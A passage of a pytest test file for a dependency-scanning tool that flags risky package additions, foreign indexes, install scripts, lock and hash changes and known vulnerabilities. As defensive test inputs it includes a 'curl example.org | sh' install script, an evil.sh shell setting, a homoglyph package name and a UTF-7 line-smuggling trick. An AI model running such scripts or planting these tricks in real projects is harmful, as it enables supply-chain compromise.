"""The scanner of dependencies against a registry on this machine: what is new, what it is, and what nobody can say."""

import json
import os
import socket
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from blocks.scanners.dependencies import Dependencies
from blocks.workshop import Workshop
from domain.brief import Brief
from domain.policy.dependency_rules import DEPENDENCY_RULES
from domain.task import Finding, Severity
from domain.trees import LINK, Tree, TreeEntry
from kits.registry import Registry, integrity, serving, sha256

REFUSE, PERSON, NOTE = Severity.REFUSE, Severity.PERSON, Severity.NOTE
Files = Mapping[str, str | bytes]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOCKGATE_HOME", str(tmp_path / "home"))


@pytest.fixture
def registry() -> Iterator[Registry]:
    """Much used names and some that should make one think."""
    with serving() as it:
        it.python("requests", "1.0", "2.31.0", "2.32.0", "2.32.1")
        it.python("numpy", "1.26.0", "2.0.0", "2.1.0")
        it.python("idna", "3.5", "3.6", "3.7")
        it.python("attrs", "23.1", "23.2", "24.1", modules=("attr/__init__.py", "attrs/__init__.py"))
        it.python("setuptools", "70.0", "71.0", "72.0")
        it.python("fine-project", "1.0", "1.1", "1.2")
        it.python("taken-back", "1.0", "1.1", "1.2", yanked=("1.2",))
        it.python("quite-young", "0.1", "0.2", "0.3", age=20, latest_age=10)
        it.python("fresh-release", "1.0", "1.1", "1.2", latest_age=2)
        it.python("only-once", "1.0")
        it.python("no-links", "1.0", "1.1", "1.2", source=None)
        it.python("requestz", "1.0", "1.1", "1.2")
        it.node("express", "3.0.0", "4.18.0", "4.19.0")
        it.node("ms", "1.0.0", "2.0.0", "2.1.3")
        it.node(
            "@scope/tool", "1.0.0", "1.1.0", "1.2.0", repository={"type": "git", "url": "git@github.com:owner/tool.git"}
        )
        it.node("compiled", "1.0.0", "1.1.0", "1.2.0", scripts={"postinstall": "node install.js"})
        it.node("lodahs", "1.0.0", "1.1.0", "1.2.0")
        yield it


def block(registry: Registry, **more: Any) -> Dependencies:
    settings = {
        "index_url": f"{registry.url}/simple/",
        "npm_registry": f"{registry.url}/npm/",
        "vulnerabilities": f"{registry.url}/osv/",
        "timeout_s": 10,
    }
    return Dependencies(**{**settings, **more})


def tree(files: Files) -> Tree:
    return {path: TreeEntry(0o100644, c.encode() if isinstance(c, str) else c) for path, c in files.items()}


def scan(registry: Registry, base: Files, head: Files, **more: Any) -> tuple[Finding, ...]:
    before, after = tree(base), tree(head)
    changed = sorted(path for path in before.keys() | after.keys() if before.get(path) != after.get(path))
    return block(registry, **more).scan(before, after, changed)


def rules(findings: tuple[Finding, ...], weight: Severity | None = None) -> list[str]:
    """What was found, without the notes."""
    shown = [f for f in findings if f.severity is not NOTE and (weight is None or f.severity is weight)]
    return sorted({f.rule.removeprefix("dependencies/") for f in shown})


def pyproject(*lines: str, more: str = "") -> str:
    return f'[project]\nname = "app"\nversion = "1"\ndependencies = {json.dumps(list(lines))}\n{more}'


def package(more: dict[str, Any] | None = None, **dependencies: str) -> str:
    return json.dumps({"name": "app", "dependencies": dependencies, **(more or {})}, indent=1)


def uv_lock(
    *packages: tuple[str, str],
    root: tuple[str, ...] = (),
    hashes: dict[str, str] | None = None,
    registry: str = "https://pypi.org/simple",
    requires: dict[str, tuple[str, ...]] | None = None,
) -> str:
    """A lock as uv writes it: the project, and these packages."""
    needs = "".join(f'    {{ name = "{name}" }},\n' for name in root)
    text = '[[package]]\nname = "app"\nversion = "1"\nsource = { editable = "." }\n'
    text += f"dependencies = [\n{needs}]\n"
    for name, version in packages:
        mark = (hashes or {}).get(name, sha256(name, version))
        inner = "".join(f'    {{ name = "{one}" }},\n' for one in (requires or {}).get(name, ()))
        text += (
            f'\n[[package]]\nname = "{name}"\nversion = "{version}"\nsource = {{ registry = "{registry}" }}\n'
            f"dependencies = [\n{inner}]\n"
            f'wheels = [\n    {{ url = "https://files.pythonhosted.org/{name}.whl", hash = "sha256:{mark}" }},\n]\n'
        )
    return text


def npm_lock(dependencies: dict[str, str], **packages: dict[str, Any]) -> str:
    return json.dumps(
        {
            "name": "app",
            "lockfileVersion": 3,
            "packages": {
                "": {"name": "app", "dependencies": dependencies},
                **{f"node_modules/{name}": one for name, one in packages.items()},
            },
        },
        indent=1,
    )


def locked(name: str, version: str, **more: Any) -> dict[str, Any]:
    url = f"https://registry.npmjs.org/{name}/-/{name}-{version}.tgz"
    return {"version": version, "resolved": url, "integrity": integrity(name, version), **more}


# what is published


@pytest.mark.parametrize(
    ("line", "rule", "weight"),
    [
        ("never-published", "missing", REFUSE),
        ("requests==9.9.9", "missing", REFUSE),
        ("requests>=9", "missing", REFUSE),
        ("requests[socks]==2.32.7", "missing", REFUSE),
        ("taken-back==1.2", "yanked", REFUSE),
        ("git+https://github.com/owner/x.git", "source", REFUSE),
        ("x @ git+https://github.com/owner/x.git", "source", REFUSE),
        ("x @ https://example.org/x-1.0-py3-none-any.whl", "source", REFUSE),
        ("./wheels/x-1.0-py3-none-any.whl", "source", REFUSE),
        ("../outside", "source", REFUSE),
        ("-e git+https://github.com/owner/x.git#egg=x", "source", REFUSE),
        ("--index-url https://packages.example.org/simple", "index", REFUSE),
        ("--extra-index-url=https://packages.example.org/simple", "index", REFUSE),
        ("-i http://pypi.org/simple", "index", REFUSE),
        ("-fhttps://packages.example.org", "index", REFUSE),
        ("--trusted-host packages.example.org", "index", REFUSE),
        ("-r other/place.txt", "source", REFUSE),
        ("not a requirement", "unread", REFUSE),
        ("rеquests", "unread", REFUSE),
        ("quite-young", "young", PERSON),
        ("fresh-release", "young", PERSON),
        ("only-once", "few-releases", PERSON),
        ("no-links", "no-source", PERSON),
        ("requestz", "near-name", PERSON),
        ("--no-binary :all:", "build", PERSON),
        ("requests --config-settings x=y", "build", PERSON),
        ("--use-feature x", "settings", PERSON),
        ("--pre --extra-index https://packages.example.org/simple", "index", REFUSE),
        ("idna --find-l https://packages.example.org/simple", "index", REFUSE),
        ("--pre 'open", "unread", REFUSE),
    ],
)
def test_a_new_line_in_requirements(registry: Registry, line: str, rule: str, weight: Severity) -> None:
    base = {"requirements.txt": "requests==2.32.1\n"}
    head = {"requirements.txt": f"requests==2.32.1\n# new\n{line}\n"}
    findings = [f for f in scan(registry, base, head) if f.severity is not NOTE]
    assert [(f.rule, f.severity, f.path, f.line) for f in findings] == [
        (f"dependencies/{rule}", weight, "requirements.txt", 3)
    ]
    assert findings[0].gate == "scan" and findings[0].fix


@pytest.mark.parametrize(
    "line",
    [
        "fine-project",
        "fine-project>=1,<2",
        "fine_project==1.1",
        "numpy~=2.0 ; python_version > '3'",
        "requests",
        "-e .",
        "--require-hashes",
        "--index-url https://pypi.org/simple/",
    ],
)
def test_a_new_line_that_is_fine(registry: Registry, line: str) -> None:
    base = {"requirements.txt": "idna\n", "pyproject.toml": pyproject()}
    assert rules(scan(registry, base, {**base, "requirements.txt": f"idna\n{line}\n"})) == []


def test_any_new_dependency_is_told_with_its_facts(registry: Registry) -> None:
    (finding,) = scan(registry, {"requirements.txt": ""}, {"requirements.txt": "fine-project\n"})
    assert (finding.rule, finding.severity) == ("dependencies/new", NOTE)
    assert "fine-project 1.2 (3 releases, the first of " in finding.message


def test_only_what_is_new_or_altered_is_asked_about(registry: Registry) -> None:
    base = {"pyproject.toml": pyproject("idna", "never-published", "requests>=1")}
    head = {"pyproject.toml": pyproject("idna", "never-published", "requests>=2", "numpy")}
    assert rules(scan(registry, base, head)) == []
    assert {path for path in registry.asked if "/simple/" in path} == {"/simple/numpy/", "/simple/requests/"}


@pytest.mark.parametrize("base", [{}, {"pyproject.toml": pyproject("idna", "requests")}])
def test_what_goes_away_or_stays_is_no_finding(registry: Registry, base: Files) -> None:
    head = {"pyproject.toml": pyproject("requests")} if base else {}
    assert scan(registry, base, head) == ()
    assert registry.asked == []


def test_a_line_that_moves_to_another_file_is_not_new(registry: Registry) -> None:
    assert (
        scan(
            registry, {"requirements.txt": "never-published>=1\n"}, {"requirements-dev.txt": "#\nnever-published>=1\n"}
        )
        == ()
    )


def test_files_that_did_not_change_are_not_looked_at(registry: Registry) -> None:
    both = tree({"requirements.txt": "never-published\n", "a.py": "import never_published\n"})
    assert block(registry).scan({}, both, ["b.py"]) == ()


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("pyproject.toml", pyproject("never-published")),
        ("pyproject.toml", pyproject(more='[project.optional-dependencies]\nx = ["never-published"]\n')),
        ("pyproject.toml", pyproject(more='[dependency-groups]\ndev = ["never-published", {include-group = "x"}]\n')),
        ("pyproject.toml", pyproject(more='[tool.uv]\noverride-dependencies = ["never-published"]\n')),
        ("pyproject.toml", pyproject(more='[tool.hatch.envs.a]\ndependencies = ["never-published"]\n')),
        ("pyproject.toml", pyproject(more='[tool.poetry.group.dev.dependencies]\nnever-published = "^1.2"\n')),
        ("pyproject.toml", '[build-system]\nrequires = ["never-published"]\nbuild-backend = "never_published"\n'),
        ("sub/pyproject.toml", pyproject("Never.Published")),
        ("requirements/dev.txt", "never-published\n"),
        ("dev-requirements.in", "never-published \\\n  >= 1\n"),
        ("lockgate.toml", 'requirements = ["never-published"]\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n    never-published>=1\n"),
        ("setup.cfg", "[options.extras_require]\nx = never-published\n"),
        ("setup.py", "from setuptools import setup\nsetup(install_requires=['never-published'])\n"),
        ("setup.py", "import setuptools\nX = ['never-published']\nsetuptools.setup(name='a', install_requires=X)\n"),
        ("setup.py", "import setuptools\nsetuptools.setup(extras_require={'x': 'never-published'})\n"),
        ("tools/run.py", "# /// script\n# dependencies = [\n#   'never-published',\n# ]\n# ///\nimport os\n"),
        ("uv.lock", uv_lock(("never-published", "1.0"), root=("never-published",))),
        (
            "poetry.lock",
            '[[package]]\nname = "never-published"\nversion = "1.0"\nfiles = [{file = "a", hash = "sha256:00"}]\n',
        ),
        ("package.json", package(**{"never-published": "^1.0.0"})),
        ("package.json", package(more={"devDependencies": {"never-published": "latest"}})),
        ("package.json", package(more={"overrides": {"ms": {".": "2.1.3", "never-published@1": "2"}}})),
        ("package.json", package(alias="npm:never-published@1")),
        (
            "package-lock.json",
            npm_lock({"never-published": "*"}, **{"never-published": locked("never-published", "1.0.0")}),
        ),
    ],
)
def test_every_place_where_a_dependency_can_stand_is_read(registry: Registry, path: str, content: str) -> None:
    found = [f for f in scan(registry, {}, {path: content}) if f.rule == "dependencies/missing"]
    assert [(f.path, "never-published" in f.message) for f in found] == [(path, True)]


def test_what_a_requirements_file_includes_is_read_whatever_it_is_called(registry: Registry) -> None:
    base = {
        "requirements.txt": "-r list.txt\n",
        "list.txt": "idna\n",
        "lockgate.toml": 'lock = "pins.txt"\n',
        "pins.txt": "",
    }
    head = {**base, "list.txt": "idna\nnever-published\n", "pins.txt": "not-there-either\n"}
    assert [(f.rule, f.path) for f in scan(registry, base, head)] == [
        ("dependencies/missing", "list.txt"),
        ("dependencies/missing", "pins.txt"),
    ]


def test_a_file_that_is_included_and_changes_alone_is_read(registry: Registry) -> None:
    base = {"requirements.txt": "-r deps.list\n", "deps.list": "idna\n"}
    head = {**base, "deps.list": "idna\nnever-published\n"}
    assert [(f.rule, f.path, f.line) for f in scan(registry, base, head)] == [("dependencies/missing", "deps.list", 2)]


def test_what_pip_takes_for_a_line_is_one(registry: Registry) -> None:
    findings = scan(registry, {}, {"requirements.txt": "idna # comment\u2028never-published\n"})
    assert [f.rule for f in findings if f.severity is REFUSE] == ["dependencies/missing"]


def test_another_encoding_does_not_hide_a_line(registry: Registry) -> None:
    head = {"requirements.txt": "# coding: utf-7\nidna # +AAo-never-published\n"}
    assert rules(scan(registry, {}, head)) == ["unread"]


def test_a_lock_that_goes_away_is_for_a_person(registry: Registry) -> None:
    base = {"pyproject.toml": pyproject("idna"), "uv.lock": uv_lock(("idna", "3.7"), root=("idna",))}
    assert rules(scan(registry, base, {"pyproject.toml": base["pyproject.toml"]})) == ["lock-removed"]


def test_no_finding_holds_a_login_or_an_invisible_character(registry: Registry) -> None:
    head = {
        "requirements.txt": "git+https://user:hunter2@example.org/x\n-i https://user:hunter2@example.org/simple\n",
        "pyproject.toml": pyproject("x @ https://user:hunter2@example.org/\u202ex.whl"),
        ".pypirc": "password = hunter2\n",
        "package.json": package(**{"evil\x1b[2K": "^1"}),
    }
    findings = scan(registry, {}, head)
    assert len(findings) >= 5
    assert "hunter2" not in str(findings)
    assert all(f.message.isprintable() for f in findings)


def test_fixtures_are_not_installed_from(registry: Registry) -> None:
    assert scan(registry, {}, {"tests/fixtures/requirements.txt": "never-published\n"}) == ()
    included = {"requirements.txt": "-r tests/fixtures/x.txt\n", "tests/fixtures/x.txt": "never-published\n"}
    assert rules(scan(registry, {}, included)) == ["missing"]


def test_a_major_version_back_is_for_a_person(registry: Registry) -> None:
    findings = scan(registry, {"requirements.txt": "numpy==2.1.0\n"}, {"requirements.txt": "numpy<2\n"})
    assert [(f.rule, f.message) for f in findings] == [
        ("dependencies/downgrade", "numpy goes back from 2.1.0 to 1.26.0")
    ]
    assert scan(registry, {"requirements.txt": "numpy==2.1.0\n"}, {"requirements.txt": "numpy==2.0.0\n"}) == ()


# npm


@pytest.mark.parametrize(
    ("name", "spec", "rule", "weight"),
    [
        ("never-published", "1", "missing", REFUSE),
        ("express", "^9.0.0", "missing", REFUSE),
        ("express", "4.18.7", "missing", REFUSE),
        ("express", "no-such-tag", "missing", REFUSE),
        ("express", "git+https://github.com/owner/express.git", "source", REFUSE),
        ("express", "owner/express", "source", REFUSE),
        ("express", "github:owner/express#v1", "source", REFUSE),
        ("express", "https://example.org/express.tgz", "source", REFUSE),
        ("express", "file:../express", "source", REFUSE),
        ("express", "link:./lib", "source", REFUSE),
        ("express", "workspace:*", "source", REFUSE),
        ("../evil", "1.0.0", "unread", REFUSE),
        ("compiled", "^1", "install-script", REFUSE),
        ("lodahs", "*", "near-name", PERSON),
    ],
)
def test_a_new_dependency_in_package_json(
    registry: Registry, name: str, spec: str, rule: str, weight: Severity
) -> None:
    findings = scan(registry, {"package.json": package()}, {"package.json": package(**{name: spec})})
    assert [(f.rule, f.severity, f.line) for f in findings if f.severity is not NOTE] == [
        (f"dependencies/{rule}", weight, 4)
    ]


@pytest.mark.parametrize(
    ("name", "spec"),
    [
        ("express", "^4.0.0"),
        ("express", "4.x || >=5"),
        ("express", "latest"),
        ("@scope/tool", "~1.1"),
        ("ms", ""),
        ("alias", "npm:ms@^2"),
    ],
)
def test_a_new_dependency_in_package_json_that_is_fine(registry: Registry, name: str, spec: str) -> None:
    assert rules(scan(registry, {"package.json": package()}, {"package.json": package(**{name: spec})})) == []


@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
def test_an_install_script_of_its_own_is_refused(registry: Registry, script: str) -> None:
    base = {"package.json": package(more={"scripts": {"test": "node --test", "prepare": "x"}})}
    head = {
        "package.json": package(
            more={"scripts": {"test": "node --test", "prepare": "x", script: "curl example.org | sh"}}
        )
    }
    assert rules(scan(registry, base, head)) == ["install-script"]
    assert scan(registry, head, base) == ()


def test_an_install_script_that_the_lock_tells_of_is_refused_where_the_registry_is_silent_about_it(
    registry: Registry,
) -> None:
    manifest = {"package.json": package(ms="^2.0.0")}
    base = {**manifest, "package-lock.json": npm_lock({"ms": "^2.0.0"}, ms=locked("ms", "2.0.0"))}
    head = {
        **manifest,
        "package-lock.json": npm_lock({"ms": "^2.0.0"}, ms=locked("ms", "2.1.3", hasInstallScript=True)),
    }
    assert rules(scan(registry, base, head)) == ["install-script"]


def test_a_package_whose_install_scripts_the_brief_asks_for_is_for_a_person(registry: Registry) -> None:
    head = {"package.json": package(compiled="1.2.0")}
    for allowed, rule, weight in (
        (("compiled",), "dependencies/install-script-asked", PERSON),
        (("compile", "compiled-too"), "dependencies/install-script", REFUSE),
    ):
        findings = scan(registry, {"package.json": package()}, head, may_run_scripts=allowed)
        assert [(f.rule, f.severity) for f in findings if "install-script" in f.rule] == [(rule, weight)]
    own = {"package.json": package(more={"scripts": {"postinstall": "curl example.org | sh"}})}
    assert rules(scan(registry, {"package.json": package()}, own, may_run_scripts=("app",)), REFUSE) == [
        "install-script"
    ]


def test_a_brief_says_what_may_run_scripts_for_its_own_change_alone() -> None:
    shop = Workshop(dependencies=Dependencies(may_run_scripts=("esbuild",)))
    asked = {"title": "Add sharp", "goal": "x", "repository": "r", "acceptance": {"command": "false"}}
    named = Brief.model_validate({**asked, "may_run_scripts": ["sharp", "@scope/tool"]})
    (scanner,) = [one for one in shop.scanners_for(named) if isinstance(one, Dependencies)]
    assert scanner.may_run_scripts == ("esbuild", "sharp", "@scope/tool")
    assert shop.dependencies.may_run_scripts == ("esbuild",)
    assert [one.name for one in shop.scanners_for(named)] == [one.name for one in shop.scanners]
    for wrong in ("*", "", "a b", "../x", "sharp@1.0"):
        with pytest.raises(ValidationError):
            Brief.model_validate({**asked, "may_run_scripts": [wrong]})


def test_a_package_that_ran_scripts_before_is_for_a_person(registry: Registry) -> None:
    head = {"package.json": package(compiled="1.2.0")}
    assert rules(scan(registry, {"package.json": package(compiled="1.1.0")}, head)) == ["install-script-before"]


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("registry=https://packages.example.org/", "index"),
        ("@scope:registry = https://packages.example.org/", "index"),
        ("//packages.example.org/:_authToken=${TOKEN}", "index"),
        ("script-shell=./evil.sh", "settings"),
    ],
)
def test_npmrc(registry: Registry, line: str, rule: str) -> None:
    base = {".npmrc": "; ours\nsave-exact=true\nregistry=https://registry.npmjs.org/\n"}
    findings = scan(registry, base, {".npmrc": base[".npmrc"] + line + "\n"})
    assert [(f.rule, f.line) for f in findings] == [(f"dependencies/{rule}", 4)]


# locks


def test_a_lock_that_agrees_is_fine(registry: Registry) -> None:
    head = {
        "pyproject.toml": pyproject("requests>=2", "numpy ; sys_platform == 'never'"),
        "uv.lock": uv_lock(
            ("requests", "2.32.1"), ("idna", "3.7"), root=("requests",), requires={"requests": ("idna",)}
        ),
        "package.json": package(express="^4.0.0"),
        "package-lock.json": npm_lock(
            {"express": "^4.0.0"},
            express=locked("express", "4.19.0", dependencies={"ms": "2"}),
            ms=locked("ms", "2.1.3"),
        ),
    }
    assert rules(scan(registry, {}, head)) == []


@pytest.mark.parametrize(
    ("head", "why"),
    [
        ({"pyproject.toml": pyproject("requests>=2", "numpy")}, "asks for numpy, which uv.lock does not lock"),
        ({"pyproject.toml": pyproject("requests<2")}, "asks for requests<2, and uv.lock locks 2.32.1"),
        ({"uv.lock": uv_lock(("requests", "1.0"), root=("requests",))}, "asks for requests>=2, and uv.lock locks 1.0"),
        (
            {"uv.lock": uv_lock(("requests", "2.32.1"), ("idna", "3.7"), root=("requests",))},
            "idna is locked and nothing asks",
        ),
        ({"package.json": package(express="^4.0.0", ms="2")}, "asks for ms, which package-lock.json does not lock"),
        ({"package.json": package(express="^3.0.0")}, "asks for express ^3.0.0, and package-lock.json locks 4.19.0"),
        (
            {"package-lock.json": npm_lock({"express": "^4.0.0"}, express=locked("express", "3.0.0"))},
            "and package-lock.json locks 3.0.0",
        ),
        (
            {
                "package-lock.json": npm_lock(
                    {"express": "^4.0.0"}, express=locked("express", "4.19.0"), ms=locked("ms", "2.1.3")
                )
            },
            "ms is locked and nothing asks",
        ),
        (
            {"package-lock.json": npm_lock({"express": "^4.0.0"}, express={**locked("ms", "2.1.3"), "name": "ms"})},
            "express is locked to another package, ms",
        ),
    ],
)
def test_a_lock_that_disagrees_is_refused(registry: Registry, head: Files, why: str) -> None:
    base = {
        "pyproject.toml": pyproject("requests>=2"),
        "uv.lock": uv_lock(("requests", "2.32.1"), root=("requests",)),
        "package.json": package(express="^4.0.0"),
        "package-lock.json": npm_lock({"express": "^4.0.0"}, express=locked("express", "4.19.0")),
    }
    assert rules(scan(registry, {}, base)) == []
    findings = [f for f in scan(registry, base, {**base, **head}) if f.rule == "dependencies/lock-disagrees"]
    assert any(why in f.message for f in findings), findings
    assert all(f.severity is REFUSE for f in findings)


def test_a_disagreement_that_base_has_is_not_found_again(registry: Registry) -> None:
    base = {
        "pyproject.toml": pyproject("requests>=2", "idna"),
        "uv.lock": uv_lock(("requests", "2.32.1"), root=("requests",)),
    }
    assert scan(registry, base, {**base, "pyproject.toml": base["pyproject.toml"] + "# more\n"}) == ()


OTHER = "0" * 64


@pytest.mark.parametrize(
    ("base", "head", "expected"),
    [
        (
            uv_lock(("idna", "3.7"), root=("idna",)),
            uv_lock(("idna", "3.7"), root=("idna",), hashes={"idna": OTHER}),
            "another hash than before",
        ),
        (
            uv_lock(("idna", "3.6"), root=("idna",)),
            uv_lock(("idna", "3.7"), root=("idna",), hashes={"idna": OTHER}),
            "another hash here than PyPI",
        ),
        (uv_lock(("idna", "3.6"), root=("idna",)), uv_lock(("idna", "3.7"), root=("idna",)), None),
        (
            f"idna==3.7 --hash=sha256:{sha256('idna', '3.7')}\n",
            f"idna==3.7 --hash=sha256:{OTHER}\n",
            "another hash than before",
        ),
        (f"idna==3.7 \\\n    --hash=sha256:{sha256('idna', '3.7')}\n", "idna==3.7\n", "had hashes in this file"),
        (
            f"idna==3.7 --hash=sha256:{OTHER}\n",
            f"idna==3.7 --hash=sha256:{OTHER} --hash=sha256:{sha256('idna', '3.7')}\n",
            None,
        ),
        (
            npm_lock({"ms": "2"}, ms=locked("ms", "2.1.3")),
            npm_lock({"ms": "2"}, ms=locked("ms", "2.1.3", integrity="sha512-AAAA")),
            "another hash than before",
        ),
        (
            npm_lock({"ms": "2"}, ms=locked("ms", "2.0.0")),
            npm_lock({"ms": "2"}, ms=locked("ms", "2.1.3", integrity="sha512-AAAA")),
            "another hash here than npm",
        ),
        (npm_lock({"ms": "2"}, ms=locked("ms", "2.0.0")), npm_lock({"ms": "2"}, ms=locked("ms", "2.1.3")), None),
    ],
)
def test_hashes(registry: Registry, base: str, head: str, expected: str | None) -> None:
    path = (
        "package-lock.json"
        if base.startswith("{")
        else "uv.lock"
        if base.startswith("[[package]]")
        else "requirements.txt"
    )
    findings = [f for f in scan(registry, {path: base}, {path: head}) if f.severity is not NOTE]
    assert [(f.rule, f.severity) for f in findings] == ([("dependencies/lock-hash", REFUSE)] if expected else [])
    assert not expected or expected in findings[0].message


def test_another_hash_for_the_same_version_is_refused_also_where_the_registry_is_silent(registry: Registry) -> None:
    registry.answers["/simple/idna/"] = (503, b"")
    base = {"uv.lock": uv_lock(("idna", "3.7"), root=("idna",))}
    head = {"uv.lock": uv_lock(("idna", "3.7"), root=("idna",), hashes={"idna": OTHER})}
    assert rules(scan(registry, base, head), REFUSE) == ["lock-hash"]


def test_a_package_that_is_locked_without_a_hash_is_for_a_person(registry: Registry) -> None:
    bare = {"version": "2.1.3", "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"}
    assert rules(scan(registry, {}, {"package-lock.json": npm_lock({"ms": "2"}, ms=bare)})) == ["unhashed"]


@pytest.mark.parametrize(
    ("head", "rule"),
    [
        (
            {"uv.lock": uv_lock(("idna", "3.7"), root=("idna",), registry="https://packages.example.org/simple")},
            "index",
        ),
        (
            {"uv.lock": '[[package]]\nname = "idna"\nversion = "1"\nsource = { git = "https://x.org/?rev=1" }\n'},
            "source",
        ),
        ({"uv.lock": '[[package]]\nname = "idna"\nversion = "1"\nsource = { directory = "../idna" }\n'}, "source"),
        (
            {"uv.lock": uv_lock(("idna", "3.7"), root=("idna",)).replace("files.pythonhosted.org", "example.org")},
            "index",
        ),
        (
            {"poetry.lock": '[[package]]\nname = "idna"\nversion = "1"\nsource = {type = "git", url = "https://x"}\n'},
            "source",
        ),
        (
            {
                "package-lock.json": npm_lock(
                    {"ms": "2"}, ms=locked("ms", "2.1.3", resolved="https://example.org/ms.tgz")
                )
            },
            "index",
        ),
        (
            {
                "package-lock.json": npm_lock(
                    {"ms": "2"}, ms=locked("ms", "2.1.3", resolved="git+ssh://git@github.com/o/ms.git#1")
                )
            },
            "source",
        ),
        ({"package-lock.json": npm_lock({"ms": "2"}, ms={"link": True, "resolved": "../ms"})}, "source"),
        (
            {
                "pyproject.toml": pyproject(
                    "idna", more='[tool.uv.sources]\nidna = { git = "https://github.com/o/idna" }\n'
                )
            },
            "source",
        ),
        ({"pyproject.toml": pyproject("idna", more="[tool.uv.sources]\nidna = { workspace = true }\n")}, "source"),
        (
            {"pyproject.toml": pyproject(more='[[tool.uv.index]]\nurl = "https://packages.example.org/simple"\n')},
            "index",
        ),
        (
            {
                "pyproject.toml": pyproject(
                    more='[[tool.poetry.source]]\nname = "x"\nurl = "https://packages.example.org"\n'
                )
            },
            "index",
        ),
        (
            {
                "pyproject.toml": pyproject(
                    more='[tool.poetry.dependencies]\nidna = { git = "https://github.com/o/idna" }\n'
                )
            },
            "source",
        ),
        ({"uv.toml": 'extra-index-url = ["https://packages.example.org/simple"]\n'}, "index"),
        ({"pip.conf": "[global]\nindex-url = https://packages.example.org/simple\n"}, "index"),
        ({".yarnrc.yml": 'npmRegistryServer: "https://packages.example.org"\n'}, "index"),
    ],
)
def test_packages_from_somewhere_else_are_refused(registry: Registry, head: Files, rule: str) -> None:
    assert rule in rules(scan(registry, {}, head), REFUSE)


def test_members_of_the_workspace_are_free(registry: Registry) -> None:
    head = {
        "pyproject.toml": pyproject("lib", more="[tool.uv.sources]\nlib = { workspace = true }\n"),
        "packages/lib/pyproject.toml": '[project]\nname = "lib"\nversion = "1"\n',
        "uv.lock": uv_lock(root=("lib",))
        + '\n[[package]]\nname = "lib"\nversion = "1"\nsource = { editable = "packages/lib" }\n',
        "package.json": package(more={"workspaces": ["web"]}, web="workspace:*"),
        "web/package.json": '{"name": "web"}',
        "a.py": "import lib\n",
        "packages/lib/lib.py": "",
    }
    assert scan(registry, {}, head) == ()


def test_packages_of_an_index_that_base_has_are_unknown_and_not_missing(registry: Registry) -> None:
    index = "--extra-index-url https://packages.example.org/simple\n"
    findings = scan(registry, {"requirements.txt": index}, {"requirements.txt": f"{index}in-house==1.0\n"})
    assert rules(findings, REFUSE) == [] and rules(findings, PERSON) == ["unknown"]


# files


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("pyproject.toml", "[project\n", "unread"),
        ("pyproject.toml", b"x = '\xff'\n", "unread"),
        ("package.json", "{", "unread"),
        ("package.json", "[" * 100_000, "unread"),
        ("package-lock.json", "[]", "unread"),
        ("setup.py", "def (\n", "unread"),
        ("setup.cfg", "no section\n", "unread"),
        ("uv.lock", "x", "unread"),
        ("yarn.lock", "# yarn\n", "unread-kind"),
        ("Pipfile.lock", "{}", "unread-kind"),
        ("go.mod", "module x\n", "unread-kind"),
        ("package-lock.json", '{"lockfileVersion": 1, "dependencies": {}}', "unread-kind"),
        ("setup.py", "import setuptools\nsetuptools.setup()\n", "build"),
        ("binding.gyp", "{}", "build"),
        (
            "pyproject.toml",
            '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
            "build",
        ),
        ("pyproject.toml", pyproject(more="[tool.hatch.build.hooks.custom]\npath = 'hook.py'\n"), "build"),
        ("package.json", package(more={"scripts": {"prepare": "x"}}), "build"),
        ("bunfig.toml", "preload = ['./x.ts']\n", "settings"),
    ],
)
def test_a_file_that_decides_what_is_installed_or_built(
    registry: Registry, path: str, content: str | bytes, rule: str
) -> None:
    assert rule in rules(scan(registry, {}, {path: content}))
    assert scan(registry, {path: content}, {path: content, "README.md": "x"}) == ()


def test_a_symbolic_link_is_not_followed(registry: Registry) -> None:
    head = {"requirements.txt": TreeEntry(LINK, b"fixtures/list.txt")}
    assert rules(block(registry).scan({}, head, ["requirements.txt"])) == ["unread"]


def test_a_tree_that_breaks_the_scanner_is_refused(registry: Registry) -> None:
    broken: Any = {"pyproject.toml": TreeEntry(0o100644, None)}  # type: ignore[arg-type]
    (finding,) = block(registry).scan({}, broken, ["pyproject.toml"])
    assert (finding.rule, finding.severity) == ("scanner-failed", REFUSE)


# vulnerabilities


def test_a_known_vulnerability_with_a_cure_is_refused(registry: Registry) -> None:
    registry.vulnerability("GHSA-aaaa", "PyPI", "requests", "2.31.0", fixed="2.32.0", aliases=["CVE-1"])
    registry.vulnerability("PYSEC-1", "PyPI", "requests", "2.31.0", fixed="2.32.0", aliases=["CVE-1", "GHSA-aaaa"])
    findings = [f for f in scan(registry, {}, {"requirements.txt": "requests==2.31.0\n"}) if f.severity is not NOTE]
    assert [(f.rule, f.severity) for f in findings] == [("dependencies/vulnerable", REFUSE)]
    assert "GHSA-aaaa: summary of GHSA-aaaa; fixed in 2.32.0" in findings[0].message


@pytest.mark.parametrize(
    ("id", "more", "expected"),
    [
        ("GHSA-bbbb", {}, ["vulnerable-unfixed"]),
        ("GHSA-bbbb", {"fixed": "2.0.0"}, ["vulnerable-unfixed"]),
        ("MAL-2026-1", {}, ["vulnerable"]),
        ("GHSA-bbbb", {"withdrawn": "2026-01-01T00:00:00Z", "fixed": "9.0.0"}, []),
    ],
)
def test_what_a_vulnerability_weighs(registry: Registry, id: str, more: dict[str, Any], expected: list[str]) -> None:
    registry.vulnerability(id, "npm", "ms", "2.1.3", **more)
    assert rules(scan(registry, {}, {"package.json": package(ms="^2")})) == expected


def test_a_vulnerability_that_base_has_is_not_new(registry: Registry) -> None:
    registry.vulnerability("GHSA-cccc", "PyPI", "numpy", "2.0.0", "2.1.0", fixed="3.0.0")
    assert scan(registry, {"requirements.txt": "numpy==2.0.0\n"}, {"requirements.txt": "numpy==2.1.0\n"}) == ()


@pytest.mark.parametrize(
    "answer",
    [
        (500, b""),
        (404, b""),
        (200, b"{}"),
        (200, b'{"results": []}'),
        (200, b"no vulnerabilities"),
        (200, b'{"results": [{"vulns": [{"id": "../../x"}]}]}'),
        (200, b'{"results": [{"vulns": [{"id": "GHSA-gone"}]}]}'),
    ],
